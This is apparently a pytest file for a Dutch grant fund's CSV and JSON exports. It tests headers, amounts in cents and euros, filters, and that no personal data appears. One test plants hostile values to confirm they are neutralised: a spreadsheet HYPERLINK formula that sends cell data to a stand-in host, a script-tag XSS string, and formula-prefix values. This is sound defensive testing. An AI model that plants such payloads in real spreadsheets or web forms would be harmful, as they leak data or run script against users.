"""The grants as CSV and JSON: the same grants as the page (its filters), cents as integers, euros
as strings, a Dutch header and a byte order mark for Excel, no formula a spreadsheet would run,
and hostile text harmless in both."""

import csv
import io
import json
from typing import Any

import pytest
from django.test import Client

from fund.models import Funder
from initiatives.models import Initiative
from tests.fund.factories_transparency import MoneyWorld, money_world

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("https://kwaad.example/?x="&A1;"klik")'
HOSTILE_NAME = "<script>alert('buurt')</script>"
LONG_WORD = "Buurt" + "heel" * 120 + "lang"


@pytest.fixture
def world() -> MoneyWorld:
    return money_world()


def download(client: Client, url: str) -> tuple[Any, str]:
    response = client.get(url)
    assert response.status_code == 200
    return response, b"".join(response.streaming_content).decode("utf-8")


def csv_rows(client: Client, query: str = "") -> list[list[str]]:
    response, text = download(client, f"/fund/grants.csv{query}")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def json_of(client: Client, query: str = "") -> dict[str, Any]:
    response, text = download(client, f"/fund/grants.json{query}")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    return json.loads(text)


def test_the_csv_has_a_dutch_header_and_one_row_per_grant_in_cents_and_euros(
    client: Client, world: MoneyWorld
) -> None:
    rows = csv_rows(client)
    header, *grants = rows
    assert header[:6] == ["Nummer", "Toegekend op", "Jaar", "Initiatief", "Gemeente", "Ronde"]
    assert "Toegekend (eurocent)" in header
    assert "Verantwoording goedgekeurd" in header
    assert len(grants) == 4
    by_title = {row[header.index("Doel")]: dict(zip(header, row, strict=True)) for row in grants}
    amersfoort = by_title["Buurtfeest Kruiskamp"]
    assert amersfoort["Toegekend (eurocent)"] == "250000"
    assert amersfoort["Toegekend (euro)"] == "2500,00"
    assert amersfoort["Uitbetaald (eurocent)"] == "100000"
    assert amersfoort["Financiers"] == (
        "Gemeente Amersfoort (geoormerkt voor Amersfoort): €\xa0500,00; "
        "Provincie Utrecht: €\xa02.000,00"
    )
    assert amersfoort["Status"] == "toegekend"
    assert amersfoort["Verantwoording goedgekeurd"] == "nee"
    zeist = by_title["Koffieochtenden"]
    assert zeist["Terug naar het fonds (eurocent)"] == "50000"
    assert zeist["Verantwoording goedgekeurd"] == "ja"
    assert zeist["Thema"] == "Eenzaamheid"
    assert zeist["Pagina"] == f"http://testserver/fund/grants/{world.grants['zeist'].pk}/"


def test_the_json_carries_cents_as_integers_and_euros_as_strings(
    client: Client, world: MoneyWorld
) -> None:
    data = json_of(client)
    assert data["filters"] == dict.fromkeys(["year", "municipality", "funder", "theme", "round"])
    assert data["totals"]["awarded"] == {"cents": 5_500_00, "euros": "5500.00"}
    assert data["totals"]["back_to_the_fund"] == {"cents": 700_00, "euros": "700.00"}
    funders = {item["slug"]: item for item in data["totals"]["by_funder"]}
    assert funders["gemeente-amersfoort"]["awarded"] == {"cents": 500_00, "euros": "500.00"}
    grants = {item["purpose"]: item for item in data["grants"]}
    assert len(grants) == 4
    utrecht = grants["Kas voor de moestuin"]
    assert utrecht["awarded"] == {"cents": 1_000_00, "euros": "1000.00"}
    assert utrecht["repaid"] == {"cents": 200_00, "euros": "200.00"}
    assert isinstance(utrecht["paid_out"]["cents"], int)
    assert utrecht["initiative"]["municipality"] == "Utrecht"
    assert utrecht["status_label"] == "toegekend"
    amersfoort = grants["Buurtfeest Kruiskamp"]
    assert [(f["name"], f["earmark"], f["amount"]["cents"]) for f in amersfoort["funders"]] == [
        ("Gemeente Amersfoort", "geoormerkt voor Amersfoort", 500_00),
        ("Provincie Utrecht", None, 2_000_00),
    ]
    # Nothing of a person: no e-mail, no name of a reviewer, no review.
    text = json.dumps(data)
    assert "@" not in text.replace("@example", "")
    assert "Geheime Beoordelaar" not in text


def test_the_downloads_follow_the_pages_filters(client: Client, world: MoneyWorld) -> None:
    query = "?funder=provincie-utrecht&municipality=utrecht"
    data = json_of(client, query)
    assert data["filters"]["funder"] == "provincie-utrecht"
    assert data["filters"]["municipality"] == "utrecht"
    assert [g["purpose"] for g in data["grants"]] == ["Kas voor de moestuin"]
    # Only the province's money counts.
    assert data["totals"]["awarded"]["cents"] == 1_000_00
    rows = csv_rows(client, query)
    assert [row[6] for row in rows[1:]] == ["Kas voor de moestuin"]
    assert len(csv_rows(client, "?municipality=nergens")) == 5  # a bad value is ignored


def test_hostile_text_is_harmless_in_both_downloads_and_on_the_pages(
    client: Client, world: MoneyWorld
) -> None:
    grant = world.grants["utrecht"]
    application = grant.application
    application.title = HOSTILE_TITLE
    application.summary = f"+SUM(A1:A9)\n{HOSTILE_NAME} {LONG_WORD}"
    application.save()
    Initiative.objects.filter(pk=grant.initiative_id).update(name=f"@{HOSTILE_NAME}")
    Funder.objects.filter(pk=world.province.pk).update(name="-2+3 Provincie\tUtrecht")

    rows = csv_rows(client)
    header, *grants = rows
    row = next(r for r in grants if r[0] == str(grant.pk))
    assert row[header.index("Doel")] == "'" + HOSTILE_TITLE
    assert row[header.index("In het kort")].startswith("'+SUM(A1:A9)")
    assert row[header.index("Initiatief")] == f"'@{HOSTILE_NAME}"
    assert row[header.index("Financiers")].startswith("'-2+3 Provincie\tUtrecht")
    for cells in grants:
        for value in cells:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value

    _response, text = download(client, "/fund/grants.json")
    assert "<script>" not in text
    assert "\\u003cscript\\u003e" in text
    data = json.loads(text)
    item = next(g for g in data["grants"] if g["id"] == grant.pk)
    assert item["purpose"] == HOSTILE_TITLE  # JSON keeps the text as it is, safely encoded
    assert item["initiative"]["name"] == f"@{HOSTILE_NAME}"

    for url in ("/fund/grants/", f"/fund/grants/{grant.pk}/"):
        html = client.get(url).content.decode()
        assert "<script>alert" not in html
        assert "&lt;script&gt;alert(&#x27;buurt&#x27;)&lt;/script&gt;" in html
